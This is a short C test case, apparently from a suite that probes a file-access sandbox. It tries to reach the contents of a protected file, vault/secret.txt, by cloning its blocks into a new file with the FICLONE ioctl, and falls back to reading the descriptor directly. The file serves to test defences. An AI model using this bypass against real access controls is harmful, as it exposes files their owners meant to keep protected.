/* technique: shares the blocks of the forbidden file with a permitted one, from a descriptor opened in the way
 * that is permitted furthest
 * source: ioctl_ficlone(2)
 * success: the content of vault/secret.txt on the output
 * control: permissive
 * event: FileOpenReadOnly
 */
#include "attack.h"
#include <linux/fs.h>
#include <sys/ioctl.h>

int main(void)
{
	int fd = open(SECRET_FILE, O_RDONLY);

	if (fd < 0)
		fd = open(SECRET_FILE, O_PATH);
	int copy = open("copy", O_RDWR | O_CREAT, 0600);

	if (ioctl(copy, FICLONE, fd) == 0)
		return 0;
	/* Not every file system can; what is opened is then read. */
	return show(fd);
}
